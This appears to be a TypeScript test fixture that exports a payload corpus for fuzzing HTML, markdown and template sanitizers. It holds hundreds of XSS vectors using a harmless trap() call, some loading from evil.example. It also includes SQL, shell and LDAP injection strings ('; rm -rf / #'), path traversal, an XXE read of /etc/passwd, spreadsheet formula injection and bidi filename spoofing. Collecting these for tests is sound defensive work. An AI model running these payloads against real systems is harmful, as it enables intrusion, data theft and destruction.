/** Texts that pages have run, drawn or stumbled over: some of each kind that is known. */

const CALL = 'trap()';
const EVENTS = (
  'abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste ' +
  'beforeprint beforetoggle beforeunload begin blur bounce canplay canplaythrough change click close contextmenu copy cuechange cut ' +
  'dblclick drag dragend dragenter dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata ' +
  'fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart message ' +
  'mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing ' +
  'pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange ' +
  'repeat reset resize scroll scrollend search seeked seeking select selectionchange selectstart show start submit suspend timeupdate ' +
  'toggle touchend touchmove touchstart transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting ' +
  'webkitanimationend wheel'
).split(' ');
const TAGS = (
  'a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas ' +
  'caption center cite code col command content custom-element data datalist dd del details dfn dialog dir div dl dt element em embed ' +
  'fieldset figure font footer form frame frameset h1 head header hr html i iframe image img input ins isindex kbd keygen label legend ' +
  'li link listing map mark marquee math menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup ' +
  'option output p param picture plaintext portal pre progress q rb rp rt ruby s samp script section select shadow slot small source ' +
  'spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var ' +
  'video wbr xmp xss'
).split(' ');

const WITH_EVENTS = EVENTS.map((event, index) => `<${TAGS[(index * 7) % TAGS.length]} on${event}=${CALL} tabindex=1 autofocus>x`);
const WITH_TAGS = TAGS.map((tag, index) => [`<${tag} src=x href=x onerror=${CALL} onload=${CALL}>`, `<${tag}/onload="${CALL}"/>`, `"><${tag} style="x" id=x>`][index % 3]!);

const SCRIPTS = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<ScRiPt >${CALL}</ScRiPt >`, `<script/x>${CALL}</script>`,
  `<script\t>${CALL}</script\t>`, `<script src=//evil.example/x.js></script>`, `<script src="data:,${CALL}"></script>`,
  `<script type=module>${CALL}</script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<<script>${CALL}//<</script>`,
  `</script><script>${CALL}</script>`, `'"><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</style><script>${CALL}</script>`,
  `</noscript><script>${CALL}</script>`, `</template><script>${CALL}</script>`, `<script>${CALL}`, `<script>//\n${CALL}</script>`,
  `<script nomodule>${CALL}</script>`, `<script type="importmap">{"imports":{"x":"data:,"}}</script>`, `<script\u00a0>${CALL}</script>`,
  `<%00script>${CALL}</script>`, `<script>${CALL}</script`, `<script x>${CALL}</script y>`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `＜script＞${CALL}＜/script＞`, `¼script¾${CALL}¼/script¾`, `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`, `\\u003cscript\\u003e${CALL}`,
];

const FRAMES = [
  `<iframe src="javascript:${CALL}">`, `<iframe srcdoc="<script>parent.${CALL}</script>">`, `<iframe src=//evil.example>`,
  `<object data="javascript:${CALL}">`, `<embed src="javascript:${CALL}">`, `<frameset><frame src="javascript:${CALL}">`,
  `<object data="data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=">`, `<embed src="data:image/svg+xml;base64,PHN2Zy8+">`,
  `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<link rel=stylesheet href=//evil.example>`,
  `<link rel=import href=//evil.example>`, `<link rel=preload as=script href=//evil.example>`, `<portal src=//evil.example>`,
  `<form action="javascript:${CALL}"><button>`, `<button formaction="javascript:${CALL}">`, `<isindex action="javascript:${CALL}">`,
  `<input type=image src=x onerror=${CALL}>`, `<img src=x onerror=${CALL}>`, `<img src=x:${CALL} onerror=eval(src)>`, `<img src onerror=${CALL}>`,
  `<img/src="x"/onerror=${CALL}>`, `<img src=x onerror="&#116;rap()">`, `<img src=x onerror=\u0060${CALL}\u0060>`, `<img """><script>${CALL}</script>">`,
  `<img src='//evil.example/' srcset='//evil.example/ 2x'>`, `<image src=x onerror=${CALL}>`, `<video><source onerror=${CALL}>`,
  `<audio src=x onerror=${CALL}>`, `<details open ontoggle=${CALL}>`, `<marquee onstart=${CALL}>`, `<body onload=${CALL}>`,
  `<table background="javascript:${CALL}">`, `<div popover id=x onbeforetoggle=${CALL}>`, `<x contenteditable onblur=${CALL}>lose focus`,
];

const DRAWINGS = [
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><script href="data:,${CALL}"/></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${CALL}">`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
  `<svg><foreignObject><iframe srcdoc="x"></foreignObject></svg>`, `<svg><style>@import '//evil.example'</style>`, `<svg><title><img src=x onerror=${CALL}>`,
  `<svg><desc><![CDATA[</desc><script>${CALL}</script>]]></svg>`, `<svg><animatetransform onbegin=${CALL}>`, `<svg><image href=x onerror=${CALL}>`,
  `<svg><handler type="text/javascript" ev:event="load">${CALL}</handler>`, `<svg><discard onbegin=${CALL}>`, `<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
  `<math><a xlink:href="javascript:${CALL}">x</a></math>`, `<math href="javascript:${CALL}">x</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<math><annotation-xml encoding="text/html"><script>${CALL}</script>`, `<math><maction actiontype="statusline#http://evil" xlink:href="javascript:${CALL}">x`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${CALL} src>">`,
];

const MUTATING = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<style><style/><img src=x onerror=${CALL}>`, `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<textarea><img src=x onerror=${CALL}></textarea>`, `<title><img src=x onerror=${CALL}></title>`, `<template><img src=x onerror=${CALL}></template>`,
  `<p id="\`\`onerror=${CALL}">`, `<listing>&lt;img onerror=${CALL} src=x&gt;</listing>`, `<a href="\`><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`, `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><x onload=${CALL}>`, `<?php echo 1 ?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`, `<!ELEMENT x ANY>`,
  `<div><svg><p><style><!--</style><img src=x onerror=${CALL}>-->`, `<select><template><img src=x onerror=${CALL}>`, `<table><td><script>${CALL}</script>`,
  `<b <script>${CALL}</script>0`, `<a<b onmouseover=${CALL}>`, `< img src=x onerror=${CALL}>`, `<\u0000img src=x onerror=${CALL}>`.replace('\u0000', '\ufffd'),
  `<img\u000csrc=x\u000conerror=${CALL}>`.replaceAll('\u000c', ' '), `<div id=body><div id=cookie><form id=location><input name=href>`,
  `<a id=papo><a id=papo name=me href=x>`, `<img name=getElementById>`, `<form name=body><input name=firstChild>`, `<form id=app></form>`,
];

const SCHEMES = [
  'javascript:', 'JavaScript:', 'jAvAsCrIpT:', ' javascript:', 'java\tscript:', 'java&#x0A;script:', 'java&Tab;script:', 'javascript&colon;', '&#106;avascript:',
  '&#x6A;avascript:', '&#0000106avascript:', 'javascript&#58;', '\\x6aavascript:', 'java%0ascript:', '%6aavascript:', 'javascript://%0a', 'javascript:/*--></title>*/',
  'vbscript:', 'livescript:', 'mocha:', 'data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'data:application/javascript,', 'blob:', 'file:///etc/passwd?',
  'filesystem:', 'about:blank#', 'view-source:', 'chrome://settings/', 'jar:', 'feed:javascript:', 'intent://x#', '\u0001javascript:'.replace('\u0001', '\u200b'), 'ｊavascript:', 'javascript\uff1a',
];
const LINKS = SCHEMES.flatMap((scheme, index) => {
  const url = `${scheme}${CALL}`;
  const written = [`[click](${url})`, `<${url}>`, `![picture](${url})`, `[a]: ${url} "b"`, `<a href="${url}">x</a>`, `[x](<${url}>)`];
  return [written[index % written.length]!, written[(index + 1) % written.length]!, url];
});

const MARKDOWN = [
  `![x](x"onerror="${CALL})`, `![x](x 'onerror=${CALL}')`, `[x](x "onmouseover=${CALL}")`, `[x](https://a.example"onmouseover="${CALL})`,
  `[<img src=x onerror=${CALL}>](https://a.example)`, `[x](https://a.example/<img src=x onerror=${CALL}>)`, `https://a.example/"onmouseover="${CALL}`,
  `https://a.example/'><img src=x onerror=${CALL}>`, `<https://a.example/"onclick=${CALL}>`, `[![x](javascript:${CALL})](javascript:${CALL})`,
  '```"><img src=x onerror=trap()>\ncode\n```', '```html onload=trap()\n<img src=x onerror=trap()>\n```', '`<img src=x onerror=trap()>`', '~~~js\n</code></pre><script>trap()</script>\n~~~',
  `| <img src=x onerror=${CALL}> |\n|---|\n| <script>${CALL}</script> |`, `> <img src=x onerror=${CALL}>`, `- <svg onload=${CALL}>`, `1. <svg onload=${CALL}>`, `# <svg onload=${CALL}>`,
  `**<svg onload=${CALL}>**`, `~~<svg onload=${CALL}>~~`, `_<svg onload=${CALL}>_`, `@<svg onload=${CALL}>`, `#<svg onload=${CALL}>`, `:<svg onload=${CALL}>:`, `/me <svg onload=${CALL}>`.slice(1),
  `[x](//evil.example)`, `[x](\\\\evil.example)`, `[x](/\\evil.example)`, `[^1]: <img src=x onerror=${CALL}>`, `$$\\href{javascript:${CALL}}{x}$$`, `\\<img src=x onerror=${CALL}\\>`,
];

const TEMPLATES = [
  `{${CALL}}`, `{{${CALL}}}`, `{{{${CALL}}}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{%25 ${CALL} %25}`, `[[${CALL}]]`, `{@html "<img src=x onerror=${CALL}>"}`, `{@const x = ${CALL}}`,
  `{#if ${CALL}}{/if}`, `{#each [1] as x}{${CALL}}{/each}`, `{@render ${CALL}}`, `{@debug x}`, `<svelte:head><script>${CALL}</script></svelte:head>`, `<svelte:element this="script">${CALL}</svelte:element>`,
  `<svelte:window onload={${CALL}}/>`, `<div bind:innerHTML={x} on:click={${CALL}}>`, `{{constructor.constructor('${CALL}')()}}`, `{{$on.constructor('${CALL}')()}}`, `<div v-html="'${CALL}'">`,
  `<div ng-app ng-csp>{{1+1}}</div>`, `<x ng-focus=$event.view.${CALL}>`, `{{#with "s"}}{{/with}}`, `{{=<% %>=}}`, `{{> partial}}`, `@(${CALL})`, `*{${CALL}}`, `~{${CALL}}`, `{ $name }`, `{ -term }`, `{"{"}`, `{ NUMBER($x) }`,
  '`${trap()}`', "'+trap()+'", '"+trap()+"', "';trap();//", '";trap();//', '\\\';trap();//', '</script>${trap()}', '%{trap()}', '%s %n %x %p', '{0} {1} {}', '$1 $& $` $\'',
];

const ENTITIES = [
  `&lt;script&gt;${CALL}&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `&#x3c;svg onload=${CALL}&#x3e;`, `&lt;img src=x onerror=${CALL}&gt;`, `&LT;svg onload=${CALL}&GT;`,
  `%3Cscript%3E${CALL}%3C/script%3E`, `%253Cscript%253E`, `&nbsp;&shy;&zwj;&zwnj;`, `&quot;&apos;&grave;`, `&NewLine;&Tab;&colon;&lpar;`, `&#0;&#x110000;&#xD800;`, `&copy&reg&notit;`, `\\74 script`, `\\3c svg\\3e`,
];

const STYLES = [
  `<style>*{background:url(javascript:${CALL})}</style>`, `<style>@import '//evil.example/x.css';</style>`, `<div style="background:url(javascript:${CALL})">`, `<div style="width:expression(${CALL})">`,
  `<div style="-moz-binding:url(//evil.example#x)">`, `<div style="behavior:url(x.htc)">`, `<div style="position:fixed;inset:0;background:red">`, `red;background:url(//evil.example)`, `}*{display:none}`, `</style><style>*{display:none!important}`,
  `<p style="animation:x" onanimationstart="${CALL}">`, `<link rel="icon" href="//evil.example">`, `<style>:root{--x:url(//evil.example)}</style>`, `var(--accent);color:red`, `url("data:text/css,*{display:none}")`,
];

const UNSEEN = [
  '\u202egnp.exe', 'photo\u202egnp.exe', '\u2066<b>\u2069', '\u2067abc\u2069', '\u202aabc\u202c', '\u202dabc\u202c', 'a\u200bb\u200cc\u200dd', '\u2060word\ufeffjoiner', 'so\u00adft', '\u061c arabic mark', '\u200e\u200f marks',
  '\u034fgrapheme', '\u115f\u1160 fillers', '\u3164 filler', '\u180e vowel', '\u2028line\u2029paragraph', '\u0085next', 'Z\u0351\u036b\u0343\u036a\u0302a\u0300\u0301\u0302\u0303\u0304l\u0335\u0336\u0337g\u0338o', '\ufff9a\ufffab\ufffb',
  '\u{e0041}\u{e0042} tags', '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}', '\ufe0e\ufe0f selectors', '\u{1d400}\u{1d401} bold', '\ufdfd long', '𒐫𒈙꧅ wide', 'ﷺ', 'ᚠ\u0332\u0333', 'e\u0301', '\u{10ffff}', '\ufffe\uffff',
  '\u001b[31mred', '\u001b]0;title\u0007', '\u001b]8;;javascript:trap()\u001b\\x\u001b]8;;\u001b\\', '\u009b31m', '\u001b[2J\u001b[H', '\u0007bell', '\u0008back', '\u007fdelete', 'a\rb',
];

const KEYS = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupSetter__', '__proto__.polluted', 'constructor.prototype.polluted', '__proto__[polluted]', 'then', 'toJSON', 'length', 'name',
  'innerHTML', 'outerHTML', 'srcdoc', 'onerror', 'dangerouslySetInnerHTML', '$$slots', '$$props', '$state', '@@iterator', 'Symbol.iterator', 'undefined', 'null', 'NaN', 'Infinity', '-0', '1e1000', 'true', 'false', '[object Object]',
];

const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${CALL} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${CALL}//>\\x3e`,
  `">><marquee><img src=x onerror=${CALL}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${CALL}>`, `'">><script>${CALL}</script>`, `" onclick=${CALL}//<button ' onclick=${CALL}//> */ ${CALL}//`,
  `javascript://'/</title></style></textarea></script>--><p" onclick=${CALL}//>*/${CALL}/*`, `javascript://</title>"/</script></style></textarea/-->*/<${'alert'}/*' onclick=${CALL}//>/*`, `-->'"/></sCript><svG x=">" onload=(co\\u006efirm)\`\`>`,
  `<svg%0Ao%00nload=%09((pro\\u006dpt))()%0A>`, `"'--><svg/onload=${CALL}>\`{{7*7}}\${7*7}<%25=7*7%25>`, `'; DROP TABLE messages; --`, `' OR 1=1 --`, `*)(uid=*))(|(uid=*`, `$(touch /tmp/x)`, `\`id\``, `; rm -rf / #`, `|| id`, `../../../../etc/passwd`,
  `..\\..\\windows\\system32`, `file:///etc/passwd`, `CON`, `AUX.txt`, `\\\\evil.example\\share`, `=cmd|'/c calc'!A0`, `@SUM(1+1)`, `+1+1`, `\r\nSet-Cookie: x=y`.trim(), `%0d%0aLocation:%20//evil.example`, `{"$gt":""}`, `[]`, `{}`, `0`, `-1`, `null`, `"`, `'`, `\\`, `<`, `>`, `&`, `%`, `<>`, `</>`, `<!`, `<?`, `&#`, `{{`, `\${`, '```', '~~~', '[](', '![', '**', '|',
];

/** All of them, each once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...SCRIPTS, ...FRAMES, ...DRAWINGS, ...MUTATING, ...LINKS, ...MARKDOWN, ...TEMPLATES, ...ENTITIES, ...STYLES, ...UNSEEN, ...KEYS, ...POLYGLOTS, ...WITH_TAGS, ...WITH_EVENTS]),
];
